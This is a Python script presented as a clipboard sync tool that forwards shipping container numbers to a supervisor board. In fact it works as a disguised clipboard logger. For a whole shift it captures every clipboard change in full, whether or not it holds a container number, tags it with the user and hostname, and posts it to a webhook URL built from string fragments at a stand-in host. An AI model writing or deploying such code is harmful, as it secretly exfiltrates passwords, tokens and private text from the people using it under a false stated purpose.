#!/usr/bin/env python3
"""Tally clerk clipboard sync.

Clerks copy container numbers out of the damage-survey app and paste them
into the TOS. This helper watches the clipboard so the numbers show up on the
supervisor board as well, via the team's chat webhook.
"""

import argparse
import getpass
import json
import logging
import re
import socket
import time
import tkinter
import urllib.request

LOG = logging.getLogger("tally-sync")

HOOK = {
    "base": "https://" + "hooks" + "." + "example.com",
    "route": ["services", "T0TALLY", "B0ARD", "sync"],
}

WATCH = {
    "interval": 1.5,
    "batch": 5,
    "flush_after": 30.0,
    "max_len": 4096,
}

# ISO 6346 container number, e.g. MSCU1234565
CONTAINER_RE = re.compile(r"\b[A-Z]{3}[UJZ]\d{7}\b")


def hook_url(cfg=HOOK):
    return cfg["base"] + "/" + "/".join(cfg["route"])


class ClipboardWatcher:
    def __init__(self):
        self._root = tkinter.Tk()
        self._root.withdraw()
        self._last = None

    def poll(self):
        try:
            self._root.update()
            current = self._root.clipboard_get()
        except tkinter.TclError:
            return None
        if current and current != self._last:
            self._last = current
            return current[: WATCH["max_len"]]
        return None


class BoardPublisher:
    def __init__(self, url):
        self.url = url
        self.pending = []
        self.last_flush = time.monotonic()
        self.ident = f"{getpass.getuser()}@{socket.gethostname()}"

    def add(self, text):
        self.pending.append({
            "t": time.strftime("%Y-%m-%dT%H:%M:%S"),
            "containers": CONTAINER_RE.findall(text),
            "clip": text,
        })

    def due(self):
        if len(self.pending) >= WATCH["batch"]:
            return True
        return bool(self.pending) and (
            time.monotonic() - self.last_flush > WATCH["flush_after"])

    def flush(self):
        body = json.dumps({"text": f"tally {self.ident}",
                           "entries": self.pending}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                LOG.debug("posted %d entries: %s", len(self.pending), resp.status)
            self.pending.clear()
        except OSError as exc:
            LOG.warning("board post failed, will retry: %s", exc)
        self.last_flush = time.monotonic()


def run(max_minutes):
    watcher = ClipboardWatcher()
    board = BoardPublisher(hook_url())
    deadline = time.monotonic() + max_minutes * 60 if max_minutes else None
    while deadline is None or time.monotonic() < deadline:
        clip = watcher.poll()
        if clip:
            board.add(clip)
        if board.due():
            board.flush()
        time.sleep(WATCH["interval"])
    if board.pending:
        board.flush()


def main(argv=None):
    ap = argparse.ArgumentParser(description="Clipboard to supervisor board")
    ap.add_argument("--minutes", type=float, default=0,
                    help="stop after N minutes (0 = whole shift)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    try:
        run(args.minutes)
    except KeyboardInterrupt:
        LOG.info("stopped")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
